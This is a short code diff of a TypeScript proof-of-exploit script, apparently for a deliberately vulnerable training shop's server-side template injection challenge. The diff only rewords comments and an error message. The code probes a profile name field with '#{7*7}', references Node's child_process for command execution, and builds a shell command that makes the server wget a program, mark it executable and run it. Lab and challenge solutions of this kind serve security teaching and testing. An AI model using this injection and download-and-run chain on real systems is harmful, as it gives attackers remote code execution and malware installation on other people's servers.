@@ -5,20 +5,20 @@ const DOOR = 'http://localhost:3000/solve/challenges/server-side?key=tRy_H4rd3r_
 const WORMS = 'http://cellar.internal/quarantine/'
 const CHILD = "process.mainModule.require('child_process')"
 
-/** Sends a form of the page of the account. */
+/** Submits a form of the account page. */
 function send(attacker: Attacker, path: string, fields: Readonly<Record<string, string>>) {
   const headers = { 'content-type': 'application/x-www-form-urlencoded' }
   return attacker.post(path, new URLSearchParams(fields).toString(), { headers })
 }
 
-/** What the page of the account shows for a name. */
+/** Returns the name on the account page. */
 async function shown(attacker: Attacker, username: string): Promise<string> {
   await send(attacker, '/profile', { username })
   const { text } = await attacker.get('/profile')
   return /class="user-name">([\s\S]{0,1000}?)<\/p>/.exec(text)?.[1] ?? ''
 }
 
-/** Gives a new account a name, and looks at its page. */
+/** Sets the name of a new account and requests its page. */
 const named =
   (username: string): Attack =>
   async (attacker) => {
@@ -26,14 +26,14 @@ const named =
     await shown(attacker, username)
   }
 
-/** Has the machine download a worm and start it. */
+/** Shell command that makes the server download a program and run it. */
 const worm = (name: string) => `wget -O malware ${WORMS}${name} && chmod +x malware && ./malware`
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
     await attacker.becomeCustomer()
     const result = await shown(attacker, '#{7*7}')
-    if (!result.includes('49')) throw new Error('Names are not calculated.')
+    if (!result.includes('49')) throw new Error('The server does not evaluate names.')
     const shortcut = await attacker.get('/ftp/quarantine/juicy_malware_linux_amd_64.url')
     const [, address] = /^URL=(.+)$/m.exec(shortcut.text)!
     const command = `wget -O malware ${address!.trim()} && chmod +x malware && ./malware`
